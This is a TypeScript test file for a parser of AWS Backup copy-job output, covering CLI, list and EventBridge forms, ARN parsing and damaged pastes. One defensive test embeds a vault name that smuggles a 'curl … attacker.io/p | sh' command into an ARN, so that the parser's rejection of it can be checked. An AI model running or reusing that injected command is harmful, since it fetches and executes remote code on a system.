import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { resolveFacts } from '../facts';
import type { Session } from '../types';
import { readCopyJob, readCopyJobList, readCopyJobs, timestampMs } from './copyJob';

const describeOutput = {
  CopyJob: {
    AccountId: '111122223333',
    CopyJobId: 'E0AADB8D-1234-5678-9ABC-DEF012345678',
    SourceBackupVaultArn: 'arn:aws:backup:us-east-1:111122223333:backup-vault:Default',
    SourceRecoveryPointArn: 'arn:aws:ec2:us-east-1::snapshot/snap-0123456789abcdef0',
    DestinationBackupVaultArn: 'arn:aws:backup:eu-west-1:444455556666:backup-vault:central-vault',
    ResourceArn: 'arn:aws:ec2:us-east-1:111122223333:volume/vol-0123456789abcdef0',
    CreationDate: '2026-11-28T10:00:00.000Z',
    State: 'FAILED',
    StatusMessage: 'Access Denied trying to call AWS Backup service',
    MessageCategory: 'ACCESS_DENIED',
    IamRoleArn: 'arn:aws:iam::111122223333:role/service-role/AWSBackupDefaultServiceRole',
    ResourceType: 'EBS',
  },
};

const expected = {
  accountId: '111122223333',
  copyJobId: 'E0AADB8D-1234-5678-9ABC-DEF012345678',
  state: 'FAILED',
  statusMessage: 'Access Denied trying to call AWS Backup service',
  messageCategory: 'ACCESS_DENIED',
  resourceType: 'EBS',
  resourceArn: 'arn:aws:ec2:us-east-1:111122223333:volume/vol-0123456789abcdef0',
  sourceVaultArn: 'arn:aws:backup:us-east-1:111122223333:backup-vault:Default',
  destinationVaultArn: 'arn:aws:backup:eu-west-1:444455556666:backup-vault:central-vault',
  sourceRecoveryPointArn: 'arn:aws:ec2:us-east-1::snapshot/snap-0123456789abcdef0',
  iamRoleArn: 'arn:aws:iam::111122223333:role/service-role/AWSBackupDefaultServiceRole',
  sourceAccountId: '111122223333',
  destinationAccountId: '444455556666',
  sourceRegion: 'us-east-1',
  destinationRegion: 'eu-west-1',
  destinationVaultName: 'central-vault',
  creationDate: '2026-11-28T10:00:00.000Z',
};

describe('readCopyJob', () => {
  it('reads describe-copy-job output and derives accounts and Regions from the vault ARNs', () => {
    expect(readCopyJob(JSON.stringify(describeOutput, null, 2))).toEqual(expected);
  });

  it('reads a bare CopyJob object', () => {
    expect(readCopyJob(JSON.stringify(describeOutput.CopyJob))).toEqual(expected);
  });

  it('takes the FAILED job of list-copy-jobs output', () => {
    const ok = { ...describeOutput.CopyJob, State: 'COMPLETED', StatusMessage: undefined, CopyJobId: 'A' };
    const failed = { ...describeOutput.CopyJob, CopyJobId: 'B', DestinationBackupVaultArn: 'arn:aws:backup:ap-east-2:444455556666:backup-vault:tpe' };
    const list = JSON.stringify({ CopyJobs: [ok, failed, { ...failed, CopyJobId: 'C' }], NextToken: 'x' });
    const job = readCopyJob(list);
    expect(job?.copyJobId).toBe('B');
    expect(job?.destinationRegion).toBe('ap-east-2');
    expect(job?.destinationVaultName).toBe('tpe');
    expect(readCopyJobs(list)).toHaveLength(3);
    expect(readCopyJob(JSON.stringify({ CopyJobs: [ok] }))?.copyJobId).toBe('A');
  });

  it('reads an EventBridge copy job event (camelCase keys)', () => {
    const event = {
      'detail-type': 'Copy Job State Change',
      source: 'aws.backup',
      detail: {
        copyJobId: 'X',
        state: 'FAILED',
        statusMessage: 'Given key ID does not exist',
        sourceBackupVaultArn: 'arn:aws:backup:us-west-2:111122223333:backup-vault:src',
        destinationBackupVaultArn: 'arn:aws:backup:us-east-1:444455556666:backup-vault:dst',
        resourceType: 'RDS',
      },
    };
    expect(readCopyJob(JSON.stringify(event))).toMatchObject({
      copyJobId: 'X',
      statusMessage: 'Given key ID does not exist',
      sourceRegion: 'us-west-2',
      destinationAccountId: '444455556666',
      resourceType: 'RDS',
    });
  });

  it('copes with paste damage: prompt and trailing text, typographic quotes, trailing commas, a BOM', () => {
    const damaged = `\uFEFF$ aws backup describe-copy-job --copy-job-id X\n{ “CopyJob”: { “State”: “FAILED”, “DestinationBackupVaultArn”: “arn:aws:backup:eu-west-1:444455556666:backup-vault:v1”, }, }\n$ `;
    expect(readCopyJob(damaged)).toEqual({
      state: 'FAILED',
      destinationVaultArn: 'arn:aws:backup:eu-west-1:444455556666:backup-vault:v1',
      destinationAccountId: '444455556666',
      destinationRegion: 'eu-west-1',
      destinationVaultName: 'v1',
    });
  });

  it('leaves out what a malformed ARN cannot give, and says which field and why', () => {
    const job = readCopyJob(JSON.stringify({ CopyJob: { State: 'failed', SourceBackupVaultArn: 'arn:aws:backup:us-east-1:SourceAccountID:backup-vault:x', DestinationBackupVaultArn: 'not an arn' } }));
    expect(job).toEqual({
      state: 'FAILED',
      rejected: [
        { field: 'SourceBackupVaultArn', kind: 'vaultArn', reason: 'format' },
        { field: 'DestinationBackupVaultArn', kind: 'vaultArn', reason: 'shell-character' },
      ],
    });
  });

  it('keeps the well-formed parts of an ARN whose vault name is hostile, and never the name', () => {
    const arn = "arn:aws:backup:eu-west-1:444455556666:backup-vault:central-backup-vault;curl$IFS-s$IFS'attacker.io/p'|sh;#";
    const job = readCopyJob(JSON.stringify({ CopyJob: { State: 'FAILED', DestinationBackupVaultArn: arn } }));
    expect(job).toEqual({
      state: 'FAILED',
      destinationAccountId: '444455556666',
      destinationRegion: 'eu-west-1',
      rejected: [
        { field: 'DestinationBackupVaultArn', kind: 'vaultArn', reason: 'shell-character' },
        { field: 'DestinationBackupVaultArn', kind: 'vaultName', reason: 'shell-character', fact: 'destinationVaultName' },
      ],
    });
  });

  it('returns undefined for text without a copy job', () => {
    expect(readCopyJob('Access Denied trying to call AWS Backup service')).toBeUndefined();
    expect(readCopyJob('')).toBeUndefined();
    expect(readCopyJob('{"Policy": "{}"}')).toBeUndefined();
    expect(readCopyJob('{"CopyJob": null}')).toBeUndefined();
  });

  it('never throws', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.json(), fc.jsonValue().map((v) => JSON.stringify({ CopyJob: v })), fc.jsonValue().map((v) => JSON.stringify({ CopyJobs: v }))), (text) => {
        expect(() => readCopyJob(text)).not.toThrow();
      }),
      { numRuns: 300 },
    );
  });
});

// describe-copy-job as the AWS CLI v2 prints it in 2026 (knowledge update 4.1): the newer CopyJob fields included.
const newer = `{
    "CopyJob": {
        "AccountId": "210987654321",
        "CopyJobId": "9F2C7A41-0B6E-4D55-8C3A-7E1D2B3C4F50",
        "SourceBackupVaultArn": "arn:aws:backup:ap-northeast-1:210987654321:backup-vault:prod-vault",
        "SourceRecoveryPointArn": "arn:aws:rds:ap-northeast-1:210987654321:snapshot:awsbackup:job-5a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d",
        "DestinationBackupVaultArn": "arn:aws:backup:ap-southeast-1:345678901234:backup-vault:dr-airgapped",
        "ResourceArn": "arn:aws:rds:ap-northeast-1:210987654321:db:orders",
        "CreationDate": "2026-11-30T02:15:09.118000+09:00",
        "CompletionDate": "2026-11-30T02:16:40.004000+09:00",
        "State": "FAILED",
        "StatusMessage": "Copy job failed because the destination backup vault only accepts recovery points retained for at least 7 days.",
        "BackupSizeInBytes": 0,
        "IamRoleArn": "arn:aws:iam::210987654321:role/service-role/AWSBackupDefaultServiceRole",
        "CreatedBy": {"BackupPlanId": "3f1c9a77-2b54-4f5e-9d0c-6a7b8c9d0e1f", "BackupRuleId": "4d2e6f80-1a3b-4c5d-8e9f-0a1b2c3d4e5f"},
        "ResourceType": "RDS",
        "MessageCategory": "INVALID_PARAMETERS",
        "CreatedByBackupJobId": "8B1D2C3E-4F50-6172-8394-A5B6C7D8E9F0",
        "DestinationEncryptionKeyArn": "arn:aws:kms:ap-southeast-1:345678901234:key/7c1e5a9d-3f82-4b60-9d4a-e6b2c8f01d37",
        "DestinationRecoveryPointLifecycle": {"DeleteAfterDays": 3, "OptInToArchiveForSupportedResources": false},
        "DestinationVaultLockState": "locked",
        "DestinationVaultType": "LOGICALLY_AIR_GAPPED_BACKUP_VAULT"
    }
}`;

// AWS's own sample "Copy Job State Change" event (AWS Backup developer guide, EventBridge page): its account ID has
// 13 digits, so no account can be taken from it.
const awsSample = `{
  "version": "0",
  "id": "4660bc92-a44d-c939-4542-cda503f14855",
  "detail-type": "Copy Job State Change",
  "source": "aws.backup",
  "account": "1112233445566",
  "time": "2020-07-15T20:37:34Z",
  "region": "us-west-2",
  "resources": [
    "arn:aws:ec2:us-west-2::image/ami-00179b33a7a88cac5"
  ],
  "detail": {
    "copyJobId": "47C8EF56-74D8-059D-1301-C5BE1D5C926E",
    "backupSizeInBytes": 22548578304,
    "creationDate": "2020-07-15T20:36:13.239Z",
    "iamRoleArn": "arn:aws:iam::1112233445566:role/RoleForEc2BackupWithNoDescribeTagsPermissions",
    "resourceArn": "arn:aws:ec2:us-west-2:1112233445566:instance/i-0515aee7de03f58e1",
    "resourceType": "EC2",
    "sourceBackupVaultArn": "arn:aws:backup:us-west-2:1112233445566:backup-vault:55aa945e-c46a-421b-aa27-f94b074e31b7",
    "state": "FAILED",
    "statusMessage": "Access denied exception while trying to list tags",
    "completionDate": "2020-07-15T20:37:28.704Z",
    "destinationBackupVaultArn": "arn:aws:backup:us-west-2:1112233445566:backup-vault:55aa945e-c46a-421b-aa27-f94b074e31b7",
    "destinationRecoveryPointArn": {}
  }
}`;

const eventOf = (detail: Record<string, unknown>) =>
  JSON.stringify({ version: '0', id: 'e1', 'detail-type': 'Copy Job State Change', source: 'aws.backup', account: '210987654321', time: '2026-11-30T01:00:00Z', region: 'us-east-1', resources: [], detail });

describe('the newer copy job outputs', () => {
  it('reads the newer CopyJob fields', () => {
    expect(readCopyJob(newer)).toMatchObject({
      copyJobId: '9F2C7A41-0B6E-4D55-8C3A-7E1D2B3C4F50',
      messageCategory: 'INVALID_PARAMETERS',
      createdByBackupJobId: '8B1D2C3E-4F50-6172-8394-A5B6C7D8E9F0',
      destinationEncryptionKeyArn: 'arn:aws:kms:ap-southeast-1:345678901234:key/7c1e5a9d-3f82-4b60-9d4a-e6b2c8f01d37',
      destinationRecoveryPointLifecycle: { deleteAfterDays: 3, optInToArchiveForSupportedResources: false },
      destinationVaultLockState: 'LOCKED',
      destinationVaultType: 'LOGICALLY_AIR_GAPPED_BACKUP_VAULT',
      creationDate: '2026-11-30T02:15:09.118000+09:00',
      completionDate: '2026-11-30T02:16:40.004000+09:00',
      destinationVaultName: 'dr-airgapped',
    });
  });

  it('reads AWS’s own sample event, whose 13-digit account gives no account', () => {
    const job = readCopyJob(awsSample);
    expect(job).toMatchObject({ copyJobId: '47C8EF56-74D8-059D-1301-C5BE1D5C926E', state: 'FAILED', statusMessage: 'Access denied exception while trying to list tags', resourceType: 'EC2', sourceRegion: 'us-west-2' });
    // The vault ARNs are malformed (13 digits), so they give neither account nor Region; the event's Region stays.
    expect(job?.destinationRegion).toBeUndefined();
    expect(job?.sourceAccountId).toBeUndefined();
    expect(job?.destinationAccountId).toBeUndefined();
    expect(job?.accountId).toBeUndefined();
    expect(job?.destinationRecoveryPointArn).toBeUndefined();
    expect(readCopyJobList(awsSample)?.form).toBe('eventbridge');
  });

  it('reads an event that says status instead of state, and takes the source account from the event', () => {
    const job = readCopyJob(eventOf({ copyJobId: 'C1', status: 'failed', statusMessage: 'Insufficient privileges to perform this action.', destinationBackupVaultArn: 'arn:aws:backup:eu-west-1:345678901234:backup-vault:central-vault' }));
    expect(job).toMatchObject({ state: 'FAILED', accountId: '210987654321', sourceAccountId: '210987654321', sourceRegion: 'us-east-1', destinationAccountId: '345678901234' });
  });

  it('does not read a backup job or recovery point event as a copy job', () => {
    const backupJob = JSON.stringify({ 'detail-type': 'Backup Job State Change', source: 'aws.backup', detail: { backupJobId: 'B', state: 'FAILED', statusMessage: 'Backup job failed because backup vault does not exist.' } });
    expect(readCopyJob(backupJob)).toBeUndefined();
  });

  it('picks the newest FAILED job of a list and exposes every failed one, newest first', () => {
    const job = (id: string, state: string, created: string | number) => ({ CopyJobId: id, State: state, CreationDate: created, StatusMessage: state === 'FAILED' ? `failure ${id}` : undefined, SourceBackupVaultArn: 'arn:aws:backup:us-east-1:210987654321:backup-vault:prod', DestinationBackupVaultArn: `arn:aws:backup:eu-west-1:345678901234:backup-vault:v-${id}` });
    const text = JSON.stringify({ CopyJobs: [job('A', 'FAILED', '2026-11-28T10:00:00Z'), job('B', 'COMPLETED', '2026-11-30T10:00:00Z'), job('C', 'FAILED', '2026-11-29T23:00:00Z'), job('D', 'FAILED', 1764400000.5)] }, null, 2);
    const list = readCopyJobList(text)!;
    expect(list.form).toBe('list-copy-jobs');
    // D: 1764400000.5 s = 2025-11-29T07:06:40Z, the oldest.
    expect(list.failed.map((i) => list.jobs[i]?.copyJobId)).toEqual(['C', 'A', 'D']);
    expect(list.paths[list.chosen]).toEqual(['CopyJobs', 2]);
    expect(readCopyJob(text)?.copyJobId).toBe('C');
    expect(readCopyJob(text)?.destinationVaultName).toBe('v-C');
  });

  it('keeps paste order for undated failed jobs, after the dated ones', () => {
    const text = JSON.stringify({ CopyJobs: [{ CopyJobId: 'A', State: 'FAILED' }, { CopyJobId: 'B', State: 'FAILED', CreationDate: '2026-01-01T00:00:00Z' }, { CopyJobId: 'C', State: 'FAILED' }] });
    expect(readCopyJobList(text)?.failed).toEqual([1, 0, 2]);
  });

  it('reads CLI and API timestamps', () => {
    expect(timestampMs('1516925490.087')).toBe(1516925490087);
    expect(timestampMs('2018-01-26T00:11:30.087Z')).toBe(1516925490087);
    expect(timestampMs('2018-01-26T09:11:30.087000+09:00')).toBe(1516925490087);
    expect(timestampMs('yesterday')).toBeUndefined();
  });
});

describe('facts from the newer copy job outputs', () => {
  const session = (copyJob: string): Session => ({ format: 'copy-doctor/session', version: 1, facts: {}, answers: {}, pastes: { copyJob } });
  const values = (s: Session) => Object.fromEntries(Object.entries(resolveFacts(s).facts).map(([k, v]) => [k, v?.value]));
  const cli = JSON.stringify({ CopyJob: { CopyJobId: 'X', State: 'FAILED', ResourceType: 'EBS', SourceBackupVaultArn: 'arn:aws:backup:us-east-1:210987654321:backup-vault:prod-vault', DestinationBackupVaultArn: 'arn:aws:backup:eu-west-1:345678901234:backup-vault:central-vault' } });
  const want = { sourceAccountId: '210987654321', destinationAccountId: '345678901234', sourceRegion: 'us-east-1', destinationRegion: 'eu-west-1', resourceType: 'EBS', destinationVaultName: 'central-vault' };

  it('a describe-copy-job output, an EventBridge event and a list-copy-jobs output fill the same facts', () => {
    expect(values(session(cli))).toEqual(want);
    const event = eventOf({ copyJobId: 'X', state: 'FAILED', resourceType: 'EBS', sourceBackupVaultArn: 'arn:aws:backup:us-east-1:210987654321:backup-vault:prod-vault', destinationBackupVaultArn: 'arn:aws:backup:eu-west-1:345678901234:backup-vault:central-vault' });
    expect(values(session(event))).toEqual(want);
    const list = JSON.stringify({ CopyJobs: [{ CopyJobId: 'OK', State: 'COMPLETED', ResourceType: 'RDS', SourceBackupVaultArn: 'arn:aws:backup:us-west-2:111111111111:backup-vault:x', DestinationBackupVaultArn: 'arn:aws:backup:us-west-2:222222222222:backup-vault:y' }, JSON.parse(cli).CopyJob] });
    expect(values(session(list))).toEqual(want);
  });

  it('points each fact at the field as written in the paste', () => {
    const event = eventOf({ copyJobId: 'X', state: 'FAILED', destinationBackupVaultArn: 'arn:aws:backup:eu-west-1:345678901234:backup-vault:central-vault' });
    const { facts, conflicts } = resolveFacts({ ...session(event), facts: { destinationAccountId: '999999999999' } });
    expect(facts.destinationAccountId?.from).toBe('facts');
    expect(conflicts[0]?.location?.path).toEqual(['detail', 'destinationBackupVaultArn']);
    const list = JSON.stringify({ CopyJobs: [{ CopyJobId: 'OK', State: 'COMPLETED' }, JSON.parse(cli).CopyJob] });
    expect(resolveFacts({ ...session(list), facts: { destinationAccountId: '999999999999' } }).conflicts[0]?.location?.path).toEqual(['CopyJobs', 1, 'DestinationBackupVaultArn']);
  });
});
